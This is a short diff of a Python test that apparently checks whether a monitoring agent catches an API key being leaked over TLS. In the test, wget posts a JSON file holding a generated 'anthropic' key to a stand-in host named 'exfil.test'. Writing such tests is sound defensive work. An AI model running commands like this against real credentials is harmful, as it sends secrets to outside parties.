@@ -207,7 +207,7 @@ def test_wget_over_gnutls_alerts(agent, clients, https_server, pki, registry, sc
     key = registry.new("anthropic")
     body = scratch / "wget-body.json"
     body.write_text(json.dumps({"key": key}))
-    result = clients.run(_with_hosts(scratch, "exfil.test", [
+    clients.run(_with_hosts(scratch, "exfil.test", [
         "wget", "-q", "-O", "/dev/null", "--no-proxy", "--tries=1", "--timeout=15",
         f"--ca-certificate={pki.ca}", f"--post-file={body}",
         https_server.url("exfil.test", "/v1/messages")]))
